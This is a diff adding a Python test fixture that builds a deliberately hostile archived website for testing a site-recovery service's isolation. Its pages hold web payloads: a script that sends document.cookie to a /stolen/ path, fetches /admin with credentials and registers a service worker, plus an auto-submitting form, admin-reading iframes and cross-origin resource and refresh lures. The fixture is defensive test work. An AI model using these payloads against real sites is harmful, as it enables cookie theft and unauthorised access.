@@ -1,0 +1,52 @@
+"""A lost site that was written to harm whoever looks at it: each of its pages tries something else.
+
+What it achieves shows in requests: for pages of the service that it has no business with, or for `/stolen/WHAT`.
+"""
+
+from tests.recover.site import HOST, ROOT, Held, Site, a, html
+
+STEAL = """
+<script>
+document.title = "script ran";
+const tell = (what, value) => { new Image().src = "/stolen/" + what + "?" + encodeURIComponent(value); };
+tell("script", "1");
+try { tell("cookie", document.cookie); } catch (error) {}
+fetch("/admin", { credentials: "include" }).then((answer) => answer.text()).then((text) => {
+  if (text.includes("Administration")) tell("admin", "1");
+}).catch(() => {});
+if (navigator.serviceWorker) navigator.serviceWorker.register("worker.js").then(() => tell("worker", "1"), () => {});
+</script>
+"""
+WORKER = "self.addEventListener('fetch', () => {});"
+FORM = """
+<form id="f" action="/stolen/form" method="post"><input name="a" value="b"><button id="send">Go</button></form>
+<script>document.getElementById("f").submit();</script>
+"""
+FRAME = """
+<iframe id="i" src="/admin" onload="try { new Image().src = '/stolen/frame?' +
+  encodeURIComponent(this.contentDocument.title) } catch (error) {}"></iframe>
+<iframe src="/recover"></iframe><object data="/admin"></object><embed src="/admin">
+"""
+HOST_OF_OTHERS = """
+<img src="//127.0.0.1:OTHER/stolen/host.png"><link rel="stylesheet" href="//127.0.0.1:OTHER/stolen/host.css">
+<div style="background: url(//127.0.0.1:OTHER/stolen/host-style.png)">x</div>
+<style>@import "//127.0.0.1:OTHER/stolen/host-import.css";</style>
+<script src="//127.0.0.1:OTHER/stolen/host.js"></script>
+<video poster="//127.0.0.1:OTHER/stolen/host-video.png"></video>
+"""
+REFRESH = '<meta http-equiv="refresh" content="0; url=http://127.0.0.1:OTHER/stolen/refresh">'
+# The script is the last: where its service worker gets in, requests go past whoever watches them.
+PAGES = {"form": FORM, "frame": FRAME, "host": HOST_OF_OTHERS, "refresh": REFRESH, "script": STEAL}
+
+
+def hostile(other: int) -> Site:
+    """Return the site. other: the port of a host of others, which its pages want to reach."""
+    site = Site()
+    links = [a(f"/{name}.html") for name in PAGES]
+    site.add(HOST, Held("a", "20100101000000", ROOT, html("Harmless", *links), refs=tuple(links)))
+    for name, body in PAGES.items():
+        page = f"<!doctype html><title>{name}</title><p>page {name}</p>{body.replace('OTHER', str(other))}"
+        site.add(f"{HOST}/{name}.html", Held("a", "20110101000000", f"{ROOT}{name}.html", page.encode()))
+    worker = Held("a", "20110101000000", f"{ROOT}worker.js", WORKER.encode(), "text/javascript")
+    site.add(f"{HOST}/worker.js", worker)
+    return site
